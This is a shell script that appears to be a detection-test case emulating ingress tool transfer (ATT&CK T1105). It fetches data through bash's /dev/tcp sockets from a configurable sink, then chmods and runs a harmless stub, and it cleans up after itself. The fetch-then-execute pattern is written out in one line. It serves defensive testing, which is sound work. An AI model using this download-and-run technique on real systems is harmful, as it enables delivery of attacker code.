#!/bin/sh
# case: T1105-bash-dev-tcp-fetch
# technique: Tool fetched by the shell's own sockets
# source: redcanaryco/atomic-red-team T1105-14 whois file download; GTFOBins bash
# needs: bash chmod
# expect: net file drift exec
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
trap 'cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
[ -n "${HO_SINK:-}" ] || { echo "SKIP: no sink"; exit 77; }
need bash; bash -c "exec 3<>/dev/tcp/${HO_SINK%%:*}/${HO_SINK##*:}; printf 'GET / HTTP/1.0\r\n\r\n' >&3; timeout 3 cat <&3 > $W/got"; printf '#!/bin/sh\nexit 0\n' > "$W/got"; chmod +x "$W/got"; "$W/got"
exit 0
